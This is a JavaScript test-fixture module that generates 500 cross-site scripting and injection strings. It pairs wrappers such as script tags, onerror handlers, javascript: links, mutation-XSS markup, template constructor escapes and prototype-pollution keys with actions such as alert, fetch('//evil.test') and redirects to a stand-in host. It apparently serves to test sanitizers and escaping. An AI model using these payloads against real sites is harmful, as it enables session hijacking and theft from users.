// Five hundred texts that would do something, were they markup, an address, a template or a key of an object.

const SHAPES = [
  (it) => `<script>${it}</script>`,
  (it) => `<img src=x onerror="${it}">`,
  (it) => `"><svg onload=${it}>`,
  (it) => `'"><iframe srcdoc="<script>parent.${it}</script>">`,
  (it) => `<a href="javascript:${it}">press</a>`,
  (it) => `</textarea></title></style><script>${it}</script>`,
  (it) => `<style>@import url(//evil.test/${encodeURIComponent(it)})</style>`,
  (it) => `<link rel=stylesheet href=//evil.test/${encodeURIComponent(it)}>`,
  (it) => `<form action=//evil.test><button formaction="javascript:${it}">`,
  (it) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${it}>`,
  (it) => `{{constructor.constructor('${it}')()}}`,
  (it) => `\${${it}}`,
  (it) => `<!--<img src="--><img src=x onerror=${it}//">`,
  (it) => `<base href="//evil.test/">${it}`,
  (it) => `<meta http-equiv=refresh content="0;url=//evil.test/?${it}">`,
  (it) => `<details open ontoggle=${it}>`,
  (it) => `data:text/html,<script>${it}</script>`,
  (it) => `__proto__ ${it}`,
  (it) => `&lt;script&gt;${it}&amp;&#60;b&#62;`,
  (it) => `\u202e${it}\u2066\u200b\ufeff`,
  (it) => `${"A".repeat(300)}${it}`,
  (it) => `line\n<b>${it}</b>\r\n\ttab`,
  (it) => `constructor.prototype.${it}`,
  (it) => `%3Cscript%3E${it}%3C/script%3E`,
  (it) => `\u0001\u0008${it}\u{1f600}\u0301`,
];
const ACTS = ["alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "print()", "fetch('//evil.test')", "location='//evil.test'", "document.write(1)", "open('//evil.test')", "eval('alert(1)')"];

/** 500 texts, each of them another. */
module.exports = () => SHAPES.flatMap((shape) => ACTS.flatMap((act) => [shape(act), shape(`${act};window.ran=1`)]));
